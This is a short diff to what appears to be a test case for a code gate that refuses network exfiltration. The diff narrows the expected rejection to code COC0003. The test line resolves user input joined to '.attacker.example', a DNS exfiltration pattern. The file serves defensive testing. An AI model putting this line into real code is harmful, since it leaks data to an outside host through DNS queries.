@@ -1,4 +1,4 @@
 // class: network
-// expected: rejected
-// why: dns exfiltration; the gate refuses it (COC0003 or a gate check) before anything runs.
+// expected: rejected COC0003
+// why: dns exfiltration; the gate refuses it (COC0003) before anything runs.
 System.Net.Dns.GetHostAddresses(Input + ".attacker.example");
